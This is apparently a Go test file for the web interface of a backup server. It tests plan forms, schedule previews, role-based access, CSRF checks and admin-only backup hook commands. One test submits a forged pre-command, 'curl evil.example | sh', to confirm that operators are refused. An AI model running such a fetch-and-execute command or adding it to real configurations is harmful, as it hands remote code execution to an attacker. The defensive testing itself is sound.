package httpapi

import (
	"context"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cofferhq/coffer"
	"github.com/cofferhq/coffer/internal/engine/blobstore/mem"
	"github.com/cofferhq/coffer/internal/engine/repository"
	"github.com/cofferhq/coffer/internal/engine/repository/repotest"
	"github.com/cofferhq/coffer/internal/metadb"
	"github.com/cofferhq/coffer/internal/metadb/metadbtest"
	"github.com/cofferhq/coffer/internal/server/agents"
	"github.com/cofferhq/coffer/internal/server/backups"
	"github.com/cofferhq/coffer/internal/server/plans"
	"github.com/cofferhq/coffer/internal/server/repos"
)

// uiPlanFixture is a server with real agents, backups and plans services
// over a repository in memory, and a signed-in browser session per role.
type uiPlanFixture struct {
	*backupFixture
	plans    *plans.Service
	sessions map[string]*http.Cookie // role → session cookie
	csrf     map[string]string       // role → CSRF token
}

func newUIPlanFixture(t *testing.T, db *metadb.DB) *uiPlanFixture {
	t.Helper()
	repo, _, err := repository.OpenOrInit(context.Background(), mem.New(mem.Options{Name: t.Name()}),
		func(id string) repository.Index { return db.Index(id) },
		repository.InitOptions{MasterKey: repotest.MasterKey(), Encrypted: true, Chunker: repotest.SmallChunks, PackSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(repo.Close)
	pf := &uiPlanFixture{backupFixture: &backupFixture{repo: repo}, sessions: map[string]*http.Cookie{}, csrf: map[string]string{}}
	pf.fixture = newFixtureWith(t, db, func(f *fixture, o *Options) {
		pf.agents = agents.New(agents.Options{Store: db, Events: f.hub})
		pf.backups = backups.New(backups.Options{Store: db, Repos: repos.New(repo, nil), Events: f.hub, Commands: pf.agents,
			Clients: pf.agents})
		pf.plans = plans.New(plans.Options{Store: db, Clients: pf.agents, Backups: pf.backups, Events: f.hub,
			DefaultRepositoryID: repo.Config().ID})
		o.Agents, o.Backups, o.Plans, o.PlanFirings = pf.agents, pf.backups, pf.plans, db
	})
	for _, role := range []string{"admin", "operator", "viewer"} {
		pf.sessions[role] = pf.uiSignIn(role, role+"-password")
		page := pf.uiDo("GET", "/", []*http.Cookie{pf.sessions[role]}, nil)
		pf.csrf[role] = hiddenToken.FindStringSubmatch(page.Body)[1]
	}
	return pf
}

// enrollAs enrolls a machine with a token made by user as, who then owns
// the client, and returns its client id.
func (f *uiPlanFixture) enrollAs(as, name string) string {
	f.t.Helper()
	secret := f.do("POST", "/api/v1/enrollment-tokens", as, map[string]any{"name": name}).Want(201).Str("secret")
	r := f.do("POST", "/api/v1/agent/enroll", "", map[string]any{"token": secret, "hostname": name + ".example",
		"os": "linux", "arch": "amd64", "ipv4": []string{}, "ipv6": []string{}, "agent_version": "test"}).Want(201)
	f.tokens[name] = r.Str("credential")
	return r.Str("client", "id")
}

// get fetches a page as role; extra are header name, value pairs.
func (f *uiPlanFixture) get(role, path string, extra ...string) *uiReply {
	f.t.Helper()
	return f.uiDo("GET", path, []*http.Cookie{f.sessions[role]}, nil, extra...)
}

// post submits form as role with the session's CSRF token.
func (f *uiPlanFixture) post(role, path string, form url.Values) *uiReply {
	f.t.Helper()
	form.Set(csrfField, f.csrf[role])
	return f.uiDo("POST", path, []*http.Cookie{f.sessions[role]}, form)
}

// planForm is a valid plan form for client.
func validPlanForm(name, client string) url.Values {
	return url.Values{"name": {name}, "client_id": {client}, "schedule": {"0 30 2 * * ?"}, "timezone": {"Europe/Berlin"},
		"include": {"/etc", "/home"}, "exclude": {"*.tmp"}, "keep_last": {"3"}, "keep_daily": {"7"}, "keep_within": {"720h"},
		"compression": {"default"}, "enabled": {"true"}, "one_file_system": {"true"}}
}

// created returns the id of the plan a successful form POST created.
func createdPlan(t *testing.T, r *uiReply) string {
	t.Helper()
	loc := r.Header.Get("Location")
	if r.StatusCode != http.StatusSeeOther || !strings.HasPrefix(loc, "/plans/") {
		t.Fatalf("save: %d Location %q\n%s", r.StatusCode, loc, r.Body)
	}
	return strings.TrimPrefix(loc, "/plans/")
}

func TestUIPlansCreateAndEdit(t *testing.T) {
	t.Parallel()
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		f := newUIPlanFixture(t, db)
		client := f.enrollAs("operator", "web")

		form := f.get("operator", "/plans/new?client="+client)
		if form.StatusCode != 200 {
			t.Fatalf("new form: %d\n%s", form.StatusCode, form.Body)
		}
		wantIn(t, "new form", form.Body, `id="plan-name"`, `<option value="`+client+`" selected>web</option>`,
			`id="plan-schedule"`, `hx-get="/ui/plans/schedule-preview"`, `hx-trigger="input changed delay:400ms"`,
			`id="schedule-preview"`, `id="include-list"`, `id="exclude-list"`, `id="plan-browse"`, `id="plan-file-browser"`,
			`id="plan-save"`, `id="plan-keep-daily"`, `id="plan-compression"`, `id="plan-enabled" name="enabled" value="true" checked`)
		wantNotIn(t, "operator's form", form.Body, `name="pre_commands"`, `id="plan-repository"`)

		// A bad schedule: the error is on the field and everything typed stays.
		bad := validPlanForm("nightly", client)
		bad.Set("schedule", "0 61 * * * ?")
		bad.Set("group", "web servers")
		r := f.post("operator", "/plans", bad)
		if r.StatusCode != http.StatusBadRequest {
			t.Fatalf("bad cron: %d\n%s", r.StatusCode, r.Body)
		}
		wantIn(t, "bad cron form", r.Body, `id="plan-schedule-error"`, "minutes", `value="0 61 * * * ?"`,
			`aria-describedby="plan-schedule-hint schedule-preview" aria-invalid="true"`,
			`value="nightly"`, `value="web servers"`, `value="Europe/Berlin"`, `value="/etc"`, `value="/home"`, `value="*.tmp"`,
			`id="plan-keep-daily" name="keep_daily" value="7"`, `value="720h"`, `<option value="default" selected>`,
			`id="plan-one-file-system" name="one_file_system" value="true" checked`)
		if _, n, _ := f.plans.List(context.Background(), metadb.PlanFilter{}); n != 0 {
			t.Fatalf("%d plans after a refused form", n)
		}

		// Input only the form can tell is wrong, and a bad include path.
		bad = validPlanForm("nightly", client)
		bad["include"] = []string{"/etc", "relative/path"}
		bad.Set("keep_weekly", "many")
		bad.Set("start_at", "tomorrow")
		r = f.post("operator", "/plans", bad)
		wantIn(t, "bad input form", r.Body, `value="relative/path" class="mono" spellcheck="false" autocomplete="off" aria-invalid="true"`,
			"This path", `id="plan-keep-weekly-error"`, `value="many"`, `id="plan-start-at-error"`, `value="tomorrow"`)
		// An error the service finds names its field: a negative rule.
		bad = validPlanForm("nightly", client)
		bad.Set("keep_monthly", "-2")
		r = f.post("operator", "/plans", bad)
		if r.StatusCode != http.StatusBadRequest {
			t.Fatalf("negative rule: %d", r.StatusCode)
		}
		wantIn(t, "service error form", r.Body, `id="plan-keep-monthly-error"`, `value="-2"`)
		// No path at all.
		bad = validPlanForm("nightly", client)
		delete(bad, "include")
		wantIn(t, "no include", f.post("operator", "/plans", bad).Body, `id="plan-include-error"`)

		id := createdPlan(t, f.post("operator", "/plans", validPlanForm("nightly", client)))
		pl, err := f.plans.Get(context.Background(), id)
		if err != nil {
			t.Fatal(err)
		}
		if pl.Name != "nightly" || pl.Timezone != "Europe/Berlin" || !slices.Equal(pl.Include, []string{"/etc", "/home"}) ||
			pl.Retention.KeepDaily != 7 || pl.Retention.KeepWithin != 720*time.Hour || !pl.OneFileSystem || !pl.Enabled ||
			pl.Compression != "default" {
			t.Errorf("created %+v", pl)
		}
		// A second plan of the same name: the error is on the name.
		r = f.post("operator", "/plans", validPlanForm("NIGHTLY", client))
		if r.StatusCode != http.StatusConflict {
			t.Fatalf("name taken: %d", r.StatusCode)
		}
		wantIn(t, "name taken", r.Body, `id="plan-name-error"`, "already exists")

		// The detail page: settings, the next five runs, the actions.
		page := f.get("operator", "/plans/"+id)
		wantIn(t, "plan page", page.Body, "<h1>nightly</h1>", `<code>0 30 2 * * ?</code> in Europe/Berlin`, `id="run-now"`,
			`id="plan-edit"`, `id="plan-delete"`, `href="/clients/`+client+`"`, "<li>7 daily</li>", "<li>Everything within 720h</li>",
			`sse-connect="/ui/events?after=`)
		if n := strings.Count(page.Body, `<li><time datetime=`); n != 5 {
			t.Errorf("plan page shows %d next runs, want 5", n)
		}

		// Edit: the form carries the plan; a change is saved.
		edit := f.get("operator", "/plans/"+id+"/edit")
		wantIn(t, "edit form", edit.Body, `action="/plans/`+id+`"`, `value="nightly"`, `value="0 30 2 * * ?"`, `value="/home"`,
			`id="plan-keep-last" name="keep_last" value="3"`)
		changed := validPlanForm("nightly-2", client)
		changed["include"] = []string{"/srv"}
		delete(changed, "enabled")
		if got := createdPlan(t, f.post("operator", "/plans/"+id, changed)); got != id {
			t.Errorf("update redirects to %s", got)
		}
		pl, _ = f.plans.Get(context.Background(), id)
		if pl.Name != "nightly-2" || pl.Enabled || !slices.Equal(pl.Include, []string{"/srv"}) {
			t.Errorf("updated %+v", pl)
		}
		bad = validPlanForm("nightly-2", client)
		bad.Set("timezone", "Mars/Olympus")
		r = f.post("operator", "/plans/"+id, bad)
		wantIn(t, "bad zone", r.Body, `id="plan-timezone-error"`, "Mars/Olympus", `action="/plans/`+id+`"`)

		// The list, and its client filter.
		list := f.get("viewer", "/plans")
		wantIn(t, "plan list", list.Body, `<a href="/plans/`+id+`">nightly-2</a>`, `<a href="/clients/`+client+`">web</a>`,
			`<code>0 30 2 * * ?</code> <span class="muted">Europe/Berlin</span>`)
		if other := f.get("viewer", "/plans?client=other"); strings.Contains(other.Body, "nightly-2") {
			t.Error("the client filter shows another client's plan")
		}
		wantIn(t, "filtered list", f.get("operator", "/plans?client="+client).Body, "nightly-2",
			`href="/plans/new?client=`+client+`"`, `id="new-plan"`)
	})
}

var fireTime = regexp.MustCompile(`<li><time datetime="([^"]+)">`)

func TestUIPlansSchedulePreview(t *testing.T) {
	t.Parallel()
	f := newUIPlanFixture(t, metadbtest.Open(t, metadb.SQLite))
	preview := func(expr, tz string) *uiReply {
		return f.get("operator", "/ui/plans/schedule-preview?"+url.Values{"schedule": {expr}, "timezone": {tz}}.Encode(),
			"HX-Request", "true")
	}
	r := preview("0 30 2 * * ?", "Europe/Berlin")
	times := fireTime.FindAllStringSubmatch(r.Body, -1)
	if r.StatusCode != 200 || len(times) != 5 || strings.Contains(r.Body, "<html") || !strings.Contains(r.Body, "in Europe/Berlin") {
		t.Fatalf("preview: %d\n%s", r.StatusCode, r.Body)
	}
	for _, m := range times {
		// 02:30 local time, or 03:30 on the day summer time starts.
		if !regexp.MustCompile(`T0[23]:30:00\+0[12]:00$`).MatchString(html.UnescapeString(m[1])) {
			t.Errorf("fire time %s is not 02:30 in Berlin", m[1])
		}
	}
	utc := fireTime.FindAllStringSubmatch(preview("0 30 2 * * ?", "").Body, -1)
	if len(utc) != 5 || !strings.HasSuffix(utc[0][1], "T02:30:00Z") {
		t.Errorf("UTC preview: %v", utc)
	}
	r = preview("0 61 * * * ?", "")
	if r.StatusCode != 200 || !strings.Contains(r.Body, `class="field-error" id="plan-schedule-error"`) ||
		!strings.Contains(r.Body, "minutes") || fireTime.MatchString(r.Body) {
		t.Errorf("bad cron: %d\n%s", r.StatusCode, r.Body)
	}
	if r := preview("@daily", "Mars/Olympus"); !strings.Contains(r.Body, `id="plan-timezone-error"`) {
		t.Errorf("bad zone:\n%s", r.Body)
	}
	if r := preview("", ""); !strings.Contains(r.Body, "only when started by hand") {
		t.Errorf("empty schedule:\n%s", r.Body)
	}
	// A preset re-renders the schedule field with its preview.
	r = f.get("operator", "/ui/plans/schedule-field?"+url.Values{"schedule": {"0 0 2 * * ?"}, "timezone": {"UTC"}}.Encode(),
		"HX-Request", "true")
	if !strings.HasPrefix(r.Body, `<div id="schedule-field">`) || !strings.Contains(r.Body, `value="0 0 2 * * ?"`) ||
		len(fireTime.FindAllString(r.Body, -1)) != 5 || !strings.Contains(r.Body, `id="plan-timezone" name="timezone" value="UTC"`) {
		t.Errorf("preset field:\n%s", r.Body)
	}
}

func TestUIPlansListRows(t *testing.T) {
	t.Parallel()
	f := newUIPlanFixture(t, metadbtest.Open(t, metadb.SQLite))
	row := func(kind, key, value string) *uiReply {
		return f.get("operator", "/ui/plans/"+kind+"-row?"+url.Values{key: {value}}.Encode(), "HX-Request", "true")
	}
	r := row("include", "path", "/var/lib/postgresql")
	if r.StatusCode != 200 || !strings.HasPrefix(r.Body, `<li class="list-row">`) ||
		!strings.Contains(r.Body, `name="include" value="/var/lib/postgresql"`) || !strings.Contains(r.Body, `data-remove="li"`) ||
		strings.Contains(r.Body, "field-error") {
		t.Errorf("good include row: %d\n%s", r.StatusCode, r.Body)
	}
	for _, p := range []string{"etc", "/etc/", "/a/../b"} {
		r = row("include", "path", p)
		if !strings.Contains(r.Body, `aria-invalid="true"`) || !strings.Contains(r.Body, `class="field-error"`) ||
			!strings.Contains(r.Body, "absolute path") {
			t.Errorf("bad include %q:\n%s", p, r.Body)
		}
	}
	if r = row("exclude", "pattern", "*.tmp"); !strings.Contains(r.Body, `name="exclude" value="*.tmp"`) || strings.Contains(r.Body, "field-error") {
		t.Errorf("good exclude row:\n%s", r.Body)
	}
	if r = row("exclude", "pattern", ""); !strings.Contains(r.Body, `class="field-error"`) {
		t.Errorf("empty exclude row:\n%s", r.Body)
	}
	// The file browser goes to the selected client's listing.
	r = f.get("operator", "/ui/plans/browse?client_id=abc", "HX-Request", "true")
	if r.StatusCode != http.StatusSeeOther || r.Header.Get("Location") != "/ui/clients/abc/files?pick=1&path=/" {
		t.Errorf("browse: %d %q", r.StatusCode, r.Header.Get("Location"))
	}
	if r = f.get("operator", "/ui/plans/browse?client_id=", "HX-Request", "true"); r.StatusCode != http.StatusBadRequest {
		t.Errorf("browse without a client: %d", r.StatusCode)
	}
}

func TestUIPlansAccess(t *testing.T) {
	t.Parallel()
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		f := newUIPlanFixture(t, db)
		mine := f.enrollAs("operator", "mine")
		theirs := f.enrollAs("admin", "theirs")
		ctx := context.Background()
		admin := &coffer.Principal{Kind: coffer.PrincipalSession, UserID: f.userID("admin"), Username: "admin",
			Role: coffer.RoleAdmin, Scopes: coffer.RoleAdmin.Permissions()}
		pl, err := f.plans.Create(ctx, admin, plans.Spec{Name: "theirs", ClientID: theirs, Include: []string{"/etc"}})
		if err != nil {
			t.Fatal(err)
		}
		id := pl.ID
		actions := []string{`id="new-plan"`, `id="run-now"`, `id="plan-edit"`, `id="plan-delete"`}

		// A viewer sees the plans but no action, and may take none.
		wantIn(t, "viewer list", f.get("viewer", "/plans").Body, "theirs")
		wantNotIn(t, "viewer list", f.get("viewer", "/plans").Body, actions...)
		wantIn(t, "viewer plan page", f.get("viewer", "/plans/"+id).Body, "<h1>theirs</h1>")
		wantNotIn(t, "viewer plan page", f.get("viewer", "/plans/"+id).Body, actions...)
		for _, path := range []string{"/plans/new", "/plans/" + id + "/edit", "/ui/plans/include-row?path=/etc"} {
			if r := f.get("viewer", path); r.StatusCode != http.StatusForbidden {
				t.Errorf("viewer GET %s: %d", path, r.StatusCode)
			}
		}
		for _, path := range []string{"/plans", "/plans/" + id, "/plans/" + id + "/run", "/plans/" + id + "/delete"} {
			if r := f.post("viewer", path, validPlanForm("v", mine)); r.StatusCode != http.StatusForbidden {
				t.Errorf("viewer POST %s: %d", path, r.StatusCode)
			}
		}

		// An operator sees no action on a plan of a client they do not own,
		// cannot pick that client, and is refused.
		wantNotIn(t, "operator on another's plan", f.get("operator", "/plans/"+id).Body, actions[1:]...)
		form := f.get("operator", "/plans/new?client="+theirs)
		wantNotIn(t, "operator's new form", form.Body, `value="`+theirs+`"`)
		wantIn(t, "operator's new form", form.Body, `value="`+mine+`"`)
		if r := f.get("operator", "/plans/"+id+"/edit"); r.StatusCode != http.StatusForbidden {
			t.Errorf("operator edit of another's plan: %d", r.StatusCode)
		}
		for _, path := range []string{"/plans/" + id, "/plans/" + id + "/run", "/plans/" + id + "/delete"} {
			if r := f.post("operator", path, validPlanForm("taken over", mine)); r.StatusCode != http.StatusForbidden {
				t.Errorf("operator POST %s: %d\n%s", path, r.StatusCode, r.Body)
			}
		}
		r := f.post("operator", "/plans", validPlanForm("sneaky", theirs))
		if r.StatusCode != http.StatusForbidden || !strings.Contains(r.Body, `id="plan-client-error"`) {
			t.Errorf("operator creating a plan of another's client: %d\n%s", r.StatusCode, r.Body)
		}
		if got, err := f.plans.Get(ctx, id); err != nil || got.Name != "theirs" {
			t.Errorf("the plan after refused changes: %+v %v", got, err)
		}
		if _, n, _ := f.plans.List(ctx, metadb.PlanFilter{}); n != 1 {
			t.Errorf("%d plans after refused creates", n)
		}
		if bs, _ := f.backups.List(ctx, metadb.BackupFilter{}); len(bs) != 0 {
			t.Errorf("refused runs queued %d backups", len(bs))
		}

		// Without the form's token nothing changes.
		for _, path := range []string{"/plans", "/plans/" + id, "/plans/" + id + "/run", "/plans/" + id + "/delete"} {
			r := f.uiDo("POST", path, []*http.Cookie{f.sessions["admin"]}, validPlanForm("csrf", mine))
			if r.StatusCode != http.StatusForbidden || !strings.Contains(r.Body, "security token") {
				t.Errorf("POST %s without a token: %d", path, r.StatusCode)
			}
		}
		if got, _ := f.plans.Get(ctx, id); got == nil || got.Name != "theirs" {
			t.Errorf("a POST without a token changed the plan: %+v", got)
		}
		if bs, _ := f.backups.List(ctx, metadb.BackupFilter{}); len(bs) != 0 {
			t.Errorf("a POST without a token queued %d backups", len(bs))
		}
	})
}

func TestUIPlansCommandsAdminOnly(t *testing.T) {
	t.Parallel()
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		f := newUIPlanFixture(t, db)
		client := f.enrollAs("operator", "db")
		wantIn(t, "admin's form", f.get("admin", "/plans/new").Body, `id="plan-pre-commands"`, `id="plan-post-commands"`,
			`id="plan-command-timeout"`)

		forged := validPlanForm("forged", client)
		forged.Set("pre_commands", "curl evil.example | sh")
		r := f.post("operator", "/plans", forged)
		if r.StatusCode != http.StatusForbidden || !strings.Contains(r.Body, "Only an admin") {
			t.Fatalf("operator's forged commands: %d\n%s", r.StatusCode, r.Body)
		}
		wantNotIn(t, "refused form", r.Body, `name="pre_commands"`)

		withCmds := validPlanForm("dump", client)
		withCmds.Set("pre_commands", "pg_dump -f /srv/db.sql\r\n\r\nsync")
		withCmds.Set("post_commands", "rm /srv/db.sql")
		withCmds.Set("command_timeout", "600")
		id := createdPlan(t, f.post("admin", "/plans", withCmds))
		pl, _ := f.plans.Get(context.Background(), id)
		if !slices.Equal(pl.PreCommands, []string{"pg_dump -f /srv/db.sql", "sync"}) || pl.CommandTimeout != 10*time.Minute {
			t.Fatalf("admin's plan: %+v", pl)
		}
		// The operator edits the rest; the commands stay as the admin set them.
		edit := f.get("operator", "/plans/"+id+"/edit")
		wantNotIn(t, "operator's edit form", edit.Body, "pg_dump", `name="pre_commands"`, `name="command_timeout"`)
		changed := validPlanForm("dump", client)
		changed.Set("schedule", "@hourly")
		createdPlan(t, f.post("operator", "/plans/"+id, changed))
		pl, _ = f.plans.Get(context.Background(), id)
		if pl.Schedule != "@hourly" || len(pl.PreCommands) != 2 || pl.PostCommands[0] != "rm /srv/db.sql" || pl.CommandTimeout != 10*time.Minute {
			t.Errorf("after the operator's edit: %+v", pl)
		}
		// Dropping them by a forged form is refused.
		changed.Set("pre_commands", "")
		if r := f.post("operator", "/plans/"+id, changed); r.StatusCode != http.StatusForbidden {
			t.Errorf("operator dropping commands: %d", r.StatusCode)
		}
		wantIn(t, "plan page", f.get("viewer", "/plans/"+id).Body, "<code>pg_dump -f /srv/db.sql</code>", "600 s")
	})
}

func TestUIPlansRunNowAndDelete(t *testing.T) {
	t.Parallel()
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		f := newUIPlanFixture(t, db)
		ctx := context.Background()
		client := f.enrollAs("operator", "web")
		id := createdPlan(t, f.post("operator", "/plans", validPlanForm("nightly", client)))

		r := f.post("operator", "/plans/"+id+"/run", url.Values{})
		loc := r.Header.Get("Location")
		if r.StatusCode != http.StatusSeeOther || !strings.HasPrefix(loc, "/backups/") || r.cookie(flashCookie) == nil {
			t.Fatalf("run now: %d %v", r.StatusCode, r.Header)
		}
		backupID := strings.TrimPrefix(loc, "/backups/")
		b, err := f.backups.Get(ctx, backupID)
		if err != nil || b.PlanID != id || b.State != coffer.JobQueued || b.Trigger != coffer.TriggerManual {
			t.Fatalf("queued backup: %+v %v", b, err)
		}
		// The plan's page shows it with live progress.
		page := f.get("operator", "/plans/"+id)
		wantIn(t, "plan page", page.Body, `href="/backups/`+backupID+`"`, `id="job-backup-`+backupID+`"`, `data-state="queued"`)

		// A second run while it is queued says why, and links to it.
		r = f.post("admin", "/plans/"+id+"/run", url.Values{})
		if r.StatusCode != http.StatusConflict {
			t.Fatalf("second run: %d\n%s", r.StatusCode, r.Body)
		}
		wantIn(t, "second run", r.Body, `id="plan-alert"`, "already has a backup queued or running", `<a href="/backups/`+backupID+`">`)
		if bs, _ := f.backups.List(ctx, metadb.BackupFilter{PlanID: id}); len(bs) != 1 {
			t.Errorf("%d backups after the refused run", len(bs))
		}
		// htmx gets HX-Redirect rather than a 303.
		f.do("POST", "/api/v1/backups/"+backupID+"/cancel", "operator", nil).Want(200)
		r = f.uiDo("POST", "/plans/"+id+"/run", []*http.Cookie{f.sessions["operator"]}, url.Values{},
			"HX-Request", "true", csrfHeader, f.csrf["operator"])
		if r.StatusCode != http.StatusNoContent || !strings.HasPrefix(r.Header.Get("HX-Redirect"), "/backups/") {
			t.Errorf("htmx run: %d %v", r.StatusCode, r.Header)
		}

		// Delete: the plan goes, its backups stay.
		r = f.post("operator", "/plans/"+id+"/delete", url.Values{})
		if r.StatusCode != http.StatusSeeOther || r.Header.Get("Location") != "/plans" {
			t.Fatalf("delete: %d %v", r.StatusCode, r.Header)
		}
		if _, err := f.plans.Get(ctx, id); !coffer.IsKind(err, coffer.KindNotFound) {
			t.Errorf("deleted plan: %v", err)
		}
		if _, err := f.backups.Get(ctx, backupID); err != nil {
			t.Errorf("the deleted plan's backup: %v", err)
		}
		if r := f.get("operator", "/plans/"+id); r.StatusCode != http.StatusNotFound {
			t.Errorf("deleted plan's page: %d", r.StatusCode)
		}
	})
}
